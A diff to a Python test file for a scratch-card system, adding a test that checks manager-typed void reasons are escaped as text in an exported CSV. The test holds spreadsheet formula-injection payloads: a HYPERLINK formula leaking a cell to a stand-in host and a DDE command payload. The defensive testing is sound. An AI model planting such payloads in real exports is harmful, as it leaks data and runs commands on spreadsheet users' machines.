@@ -1,5 +1,7 @@
 """Scratch-card batches, the card lifecycle and card redemptions, checked on real PDFs."""
 
+import csv
+import io
 import re
 from datetime import timedelta
 from pathlib import Path
@@ -238,6 +240,22 @@ def test_the_serials_csv_has_serials_but_never_codes(chinese_clinic, actor):
     assert text.startswith("\ufeffserial,status")
     for serial, code in db.session.execute(select(Card.serial, Card.code)):
         assert serial in text and code not in text
+
+
+FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'
+
+
+def test_void_reasons_in_the_serials_csv_are_text_not_formulas(manager, chinese_clinic, actor):
+    """A manager types the reasons: in the stock-control file they must read as text, never run in Excel."""
+    batch = generate(3, actor)
+    first = db.session.scalars(select(Card.serial).where(Card.batch_id == batch.id).order_by(Card.id)).first()
+    assert manager.post("/cards/void", {"serial": first, "reason": FORMULA_REASON}).status_code == 303
+    assert manager.post(f"/cards/batches/{batch.id}/void", {"reason": "@SUM(1+1)*cmd|' /C calc'!A0"}).status_code == 303
+    response = manager.get(f"/cards/batches/{batch.id}/serials.csv")
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    assert rows[0] == ["serial", "status", "activated", "redeemed", "void reason"]
+    assert [row[4] for row in rows[1:]] == ["'" + FORMULA_REASON] + ["'@SUM(1+1)*cmd|' /C calc'!A0"] * 2
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 def test_creating_batches_through_the_web_runs_in_the_background(manager, chinese_clinic, tmp_path):
